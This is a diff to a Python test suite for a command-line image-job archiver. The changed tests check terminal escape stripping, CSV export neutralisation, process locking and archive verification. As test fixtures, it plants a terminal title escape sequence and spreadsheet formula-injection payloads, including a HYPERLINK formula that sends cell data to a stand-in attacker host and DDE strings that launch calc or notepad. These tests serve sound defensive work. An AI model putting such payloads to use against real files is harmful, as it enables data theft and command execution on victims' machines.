@@ -60,13 +60,25 @@ def test_escape_sequences_never_printed():
             # --json is for programs: JSON escapes the controls itself.
             found = json.loads(cli("search", "--json", "--archive", archive, "-n", "0", env=env, check=0).stdout)
             assert any("\x1b]52;" in job["prompt"] for job in found), found
+
+            # A job file that no longer reads as a job: tag's failure quotes
+            # its member name ("\377" is a byte that is not UTF-8).
+            name = next(n for n in sorted(archive_files(archive)) if n.endswith(".json"))
+            with open(os.path.join(archive, name)) as f:
+                text = f.read()
+            with open(os.path.join(archive, name), "w") as f:
+                f.write('{"\\u001b]0;OWNED\\u0007": "\\377", ' + text.lstrip()[1:])
+            tag = cli("tag", "--archive", archive, env=env, check=1)
+            no_controls(tag.stdout + tag.stderr, "tag")
+            assert "\\x1b]0;OWNED\\x07" in tag.stderr, tag.stderr
         finally:
             remove(archive)
 
 
-def plant_job(archive, prompt, full_command):
+def plant_job(archive, prompt, full_command, job_id=None):
     with open(os.path.join(FIXTURES, "current-diffusion.json")) as f:
         job = json.load(f)
+    job["id"] = job_id or job["id"]
     job["full_command"] = full_command
     job["prompt"] = prompt
     day = os.path.join(archive, "2026", "2026-05", "2026-05-01")
@@ -79,14 +91,19 @@ def test_csv_cells_neutralised():
     archive = temp_dir()
     try:
         plant_job(archive, '=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0")
+        # The current era's prompt is its command's: one job each.
+        plant_job(archive, "", "+1+cmd|' /C calc'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884ff")
+        plant_job(archive, "", "-2+3+cmd|' /C notepad'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884fe")
         env = base_env()
         cli("reindex", "--archive", archive, env=env, check=0)
         out = cli("export", "--archive", archive, env=env, check=0).stdout
         rows = list(csv.DictReader(io.StringIO(out)))
-        assert len(rows) == 1, out
-        for column in rows[0]:
-            assert rows[0][column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, rows[0][column])
-        assert rows[0]["full_command"] == "'@SUM(1+1)*cmd|' /C calc'!A0", rows[0]
+        assert len(rows) == 3, out
+        for row in rows:
+            for column in row:
+                assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+        cells = {cell for row in rows for cell in (row["prompt"], row["full_command"])}
+        assert {"'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C notepad'!A0"} <= cells, rows
     finally:
         remove(archive)
 
@@ -108,7 +125,7 @@ def wait_for_lock(proc, archive):
 
 
 def test_second_process_refused_and_killed():
-    with FakeServer("--jobs", "40", "--seed", "3", "--latency", "150") as server:
+    with FakeServer("--jobs", "40", "--seed", "3", "--latency", "200") as server:
         env = base_env(server)
         clean, first = temp_dir(), temp_dir()
         try:
@@ -117,26 +134,37 @@ def test_second_process_refused_and_killed():
             proc = subprocess.Popen([CLI, "sync", "--archive", first, "--request-interval", "0"], env=env,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             wait_for_lock(proc, first)
-            for command in (["sync"], ["download"], ["reindex"]):
+            for command in (["sync"], ["download"], ["reindex"], ["tag"]):
                 second = cli(*command, "--archive", first, env=env)
                 assert second.returncode == 7, (command, second.returncode, second.stderr)
                 said = f"Another sync is running on this archive (pid {proc.pid})"
                 assert said in second.stderr, second.stderr
 
-            # A second one killed at random moments, ten times.
+            # A second one killed at random moments while it runs (a refused
+            # one is gone in some tens of milliseconds), ten times, each
+            # while the first one still syncs.
             rng = random.Random(15)
-            for _ in range(10):
+            hit = 0
+            for i in range(10):
                 second = subprocess.Popen([CLI, "sync", "--archive", first, "--request-interval", "0"], env=env,
                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-                time.sleep(rng.uniform(0, 0.25))
+                time.sleep(rng.uniform(0, 0.03))
+                assert proc.poll() is None, f"the first sync ended before kill {i + 1} of 10"
+                hit += second.poll() is None
                 second.kill()
                 second.wait()
+            assert hit > 0, "every second sync had ended before it was killed"
             out, err = proc.communicate(timeout=240)
             assert proc.returncode == 0, err
             got, want = archive_files(first), archive_files(clean)
             assert sorted(got) == sorted(want), sorted(set(got) ^ set(want))
             different = [name for name in want if got[name] != want[name]]
             assert not different, f"{len(different)} files differ from a clean run's, such as {different[:3]}"
+            verify = cli("verify", "--json", "--archive", first, env=env)
+            assert verify.returncode == 0, verify.stderr
+            report = json.loads(verify.stdout)
+            assert report["problems"] == [], report["problems"]
+            assert report["checked_images"] > 0, report
         finally:
             remove(clean)
             remove(first)
